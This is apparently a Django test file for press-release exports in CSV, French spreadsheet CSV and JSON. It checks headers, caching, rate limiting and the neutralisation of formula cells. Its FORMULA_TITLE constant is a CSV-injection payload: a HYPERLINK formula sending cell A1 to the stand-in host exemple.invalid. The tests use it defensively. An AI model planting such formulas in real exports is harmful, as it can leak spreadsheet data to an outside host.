"""Downloads of the list (/export.csv, /export-tableur.csv, /export.json) and the export command."""

import codecs
import csv
import fcntl
import io
import json
import re

import pytest
from django.core.management import call_command

from releases.exporting import CSV_COLUMNS
from releases.models import Release
from tests.factories import PersonFactory, QuoteFactory, ReleaseContactFactory, ReleaseFactory
from tests.helpers import FIXTURES, as_libreoffice_shows, run_import

pytestmark = pytest.mark.django_db

FORMULA_TITLE = '=HYPERLINK("http://exemple.invalid/?v="&A1,"Cliquez ici")'


@pytest.fixture
def samples(db):
    run_import(FIXTURES)


def content(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))


def test_the_csv_opens_cleanly_in_a_spreadsheet(client, samples):
    response = client.get("/export.csv?country=GT")
    data = content(response)
    assert data.startswith(codecs.BOM_UTF8)  # spreadsheets then read UTF-8 as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(rows[0]) == CSV_COLUMNS  # the contract's field names
    stored = {r.source: r for r in Release.objects.filter(country="GT")}
    assert {row["source"] for row in rows} == set(stored)
    for row in rows:
        release = stored[row["source"]]
        assert row["url"] == f"http://testserver/releases/{release.slug}/"
        assert row["title"] == release.title  # accents and apostrophes as they are
    assert re.fullmatch(
        r'attachment; filename="communiques-pays-gt-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_the_file_name_says_every_filter(client, samples):
    response = client.get("/export.json?project=midla&year=2019&q=migrants&year_x=1")
    assert re.fullmatch(
        r'attachment; filename="communiques-recherche-migrants-projet-midla-annee-2019-'
        r'\d{4}-\d{2}-\d{2}\.json"',
        response["Content-Disposition"],
    )


def test_cells_a_spreadsheet_would_run_are_neutralised(client, db):
    release = ReleaseFactory(title=FORMULA_TITLE, dateline="+33 1 23", body="-1+1\n\nUn texte.")
    QuoteFactory(release=release, name="@SOMME(A1:A9)", role="")
    ReleaseContactFactory(release=release, person=PersonFactory(name="=1+1", email="x@iom.int"))
    row = csv_rows(client.get("/export.csv"))[0]
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["dateline"] == "'+33 1 23"
    assert row["body"] == "'-1+1\n\nUn texte."
    assert row["quoted_people"] == "'@SOMME(A1:A9)"
    assert row["contacts"].startswith("'=1+1 <x@iom.int>")
    # For French spreadsheets, an invisible word joiner instead: LibreOffice shows an apostrophe.
    spreadsheet = content(client.get("/export-tableur.csv")).decode("utf-8-sig")
    cells = next(r for r in csv.reader(io.StringIO(spreadsheet), delimiter=";") if r[0] != "Titre")
    assert cells[0] == "\u2060" + FORMULA_TITLE and "\u2060=1+1" in cells
    assert not [cell for cell in cells if cell.startswith("'")]
    # JSON is no spreadsheet: values as they are.
    assert json.loads(content(client.get("/export.json")))[0]["title"] == FORMULA_TITLE


def test_the_spreadsheet_variant_has_french_headers_and_a_column_per_contact_field(client, samples):
    text = content(client.get("/export-tableur.csv?country=GT")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, records = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert header[:4] == ["Titre", "Date", "Lieu", "Pays"]
    assert "Contact 1 : nom" in header and "Contact 1 : courriel" in header
    assert len(records) == 2
    for record in records:
        release = Release.objects.get(source=record["Source"])
        first = release.contact_links.order_by("position").first()
        assert record["Pays"] == "Guatemala"
        assert record["Contact 1 : nom"] == first.person.name
        assert record["Contact 1 : courriel"] == (first.person.email or "")
        assert record["Contact 1 : bureau"] == "OIM Guatemala"
        if first.phones:
            assert record["Contact 1 : téléphones"].startswith("\u2060+502 ")  # shown, never run


def test_an_export_is_written_once_then_served_as_a_file(
    client, samples, settings, django_assert_max_num_queries
):
    first = client.get("/export.json")
    data = content(first)
    assert len(json.loads(data)) == 5
    assert len(list(settings.EXPORT_DIR.glob("*.json"))) == 1
    with django_assert_max_num_queries(1):  # the version; the file is on disk
        again = client.get("/export.json")
        assert content(again) == data
    assert again["ETag"] == first["ETag"] and again["Last-Modified"] == first["Last-Modified"]
    assert int(again["Content-Length"]) == len(data)
    assert client.get("/export.json", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304

    release = Release.objects.get(source="000_f54fc7d57c954cef.txt")
    release.title = "Titre corrigé par un éditeur"
    release.save()
    changed = client.get("/export.json", HTTP_IF_NONE_MATCH=first["ETag"])
    assert changed.status_code == 200 and changed["ETag"] != first["ETag"]
    assert "Titre corrigé par un éditeur" in content(changed).decode()
    assert len(list(settings.EXPORT_DIR.glob("*.json"))) == 1  # the older version's file is gone


def test_beyond_the_writing_slots_a_clear_429(client, samples, settings):
    settings.EXPORTS_AT_ONCE = 1
    slots = settings.EXPORT_DIR / ".slots"
    slots.mkdir(parents=True)
    with open(slots / "0.lock", "w") as held:  # another request is writing an export
        fcntl.flock(held, fcntl.LOCK_EX)
        busy = client.get("/export.csv")
        assert busy.status_code == 429
        assert busy["Retry-After"] == "10"
        assert "Réessayez dans 10 secondes" in busy.content.decode()
        fcntl.flock(held, fcntl.LOCK_UN)
    rows = csv_rows(client.get("/export.csv"))
    assert len(rows) == 5


def test_a_file_being_written_is_not_written_twice(client, samples, monkeypatch):
    import releases.views

    answers = []
    write = releases.views._write_json

    def write_and_ask_again(releases_, out, base_url):
        answers.append(client.get("/export.json"))  # a second request meanwhile
        write(releases_, out, base_url)

    monkeypatch.setattr(releases.views, "_write_json", write_and_ask_again)
    assert len(json.loads(content(client.get("/export.json")))) == 5
    assert [a.status_code for a in answers] == [429]


def test_the_export_command_follows_the_contract(db, samples):
    release = Release.objects.get(source="001_9526fde9a7fe657c.txt")
    release.title = FORMULA_TITLE
    release.save()
    out = io.StringIO()
    call_command("export_releases", "--format", "json", stdout=out)
    records = json.loads(out.getvalue())
    assert [r["source"] for r in records] == sorted(r["source"] for r in records)
    assert records[0]["url"].startswith("/releases/")
    out = io.StringIO()
    call_command(
        "export_releases", "--format", "csv", "--base-url", "https://portail.example.org/", stdout=out
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0]) == CSV_COLUMNS
    assert [r["source"] for r in rows] == [r["source"] for r in records]
    assert rows[1]["title"] == "'" + FORMULA_TITLE
    assert rows[0]["url"] == "https://portail.example.org" + records[0]["url"]


@pytest.mark.django_db(transaction=True)
def test_a_file_is_written_by_a_thread_of_lower_priority(client, monkeypatch):
    import os
    import threading

    import releases.views

    run_import(FIXTURES)
    seen = []
    write = releases.views._write_json

    def watching(releases_, out, base_url):
        seen.append(
            (threading.current_thread().name, os.getpriority(os.PRIO_PROCESS, threading.get_native_id()))
        )
        write(releases_, out, base_url)

    monkeypatch.setattr(releases.views, "_write_json", watching)
    assert len(json.loads(content(client.get("/export.json")))) == 5
    assert seen == [("export-writer", 10)]


def test_libreoffice_opens_the_spreadsheet_file_with_phones_as_written_and_runs_no_formula(
    client, db, tmp_path
):
    release = ReleaseFactory(title=FORMULA_TITLE)
    ReleaseContactFactory(
        release=release, person=PersonFactory(name="Ana Recente"), phones=["+50223336052;ext=218"]
    )
    spreadsheet = content(client.get("/export-tableur.csv")).decode("utf-8-sig")
    shown = as_libreoffice_shows(spreadsheet, ";", tmp_path)
    if shown is None:
        pytest.skip("LibreOffice is not installed: the cells are checked by the test above")
    header, row = shown[0], shown[1]
    record = dict(zip(header, (cell.strip("\u2060") for cell in row), strict=True))
    assert record["Contact 1 : téléphones"] == "+502 2333 6052, poste 218"  # no apostrophe, no error
    assert record["Titre"] == FORMULA_TITLE  # text, never run
